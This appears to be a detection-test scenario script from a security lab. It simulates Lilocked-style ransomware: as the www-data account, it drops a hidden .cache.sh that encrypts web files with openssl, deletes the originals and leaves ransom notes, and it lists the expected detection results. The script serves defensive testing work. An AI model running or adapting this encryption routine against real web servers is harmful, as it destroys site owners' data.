# A web-server daemon account (www-data, no login uid: no human behind it) runs a dropped script that
# encrypts the web roots with openssl to NAME.lilocked and drops #README.lilocked per directory.
HOST=web02.corp.example
SUMMARY="Attack: started by the web-server account www-data without any login session (auid unset, like a web shell): dropped script /srv/rt-lab/var/www/shop/assets/img/.cache.sh runs openssl enc per file to NAME.lilocked, deletes originals, #README.lilocked per directory."
targets() { find "$RT_ROOT/var/www" -type f \( -name '*.html' -o -name '*.php' -o -name '*.js' -o -name '*.css' \); }

scenario_prepare() {
    chown -R www-data:www-data "$RT_ROOT/var/www"
    rt_note_text > "$RT_DROP/n"
    cat > "$RT_ROOT/var/www/shop/assets/img/.cache.sh" <<'SH'
#!/bin/sh
for f in $(find /srv/rt-lab/var/www -type f -name '*.html' -o -type f -name '*.php' -o -type f -name '*.js' -o -type f -name '*.css'); do
  openssl enc -aes-256-cbc -pbkdf2 -pass pass:lil0cked -in "$f" -out "$f.lilocked" && rm -f "$f"
  [ -f "$(dirname "$f")/#README.lilocked" ] || cp /var/tmp/.font-cache/n "$(dirname "$f")/#README.lilocked"
done
SH
    chown www-data:www-data "$RT_ROOT/var/www/shop/assets/img/.cache.sh"
    targets | sort > "$RT_OPT.targets"
    N_FILES=$(wc -l < "$RT_OPT.targets"); N_DIRS=$(rt_count_dirs < "$RT_OPT.targets")
}
scenario_run() {
    rt_attack as_daemon www-data "cd /srv/rt-lab/var/www/shop && sh assets/img/.cache.sh"
}
scenario_verify() {
    rt_check encrypted "$(find "$RT_ROOT" -name '*.lilocked' ! -name '#README.lilocked' | wc -l)" "$N_FILES" &&
    rt_check notes "$(find "$RT_ROOT" -name '#README.lilocked' | wc -l)" "$N_DIRS"
}
scenario_truth() {
    cat <<Y
expected:
  - rootExe: /usr/bin/dash
    rootCommandContains: ".cache.sh"
    loginUser: null
    runAsUser: www-data
    filesAffected: $N_FILES
    overwrite: new-file-then-delete
    newExtension: .lilocked
    notes: { name: "#README.lilocked", directories: $N_DIRS }
    tools: [openssl]
    targetRoots: [/srv/rt-lab/var/www]
Y
}
scenario_cleanup() { rm -f "$RT_OPT.targets"; }
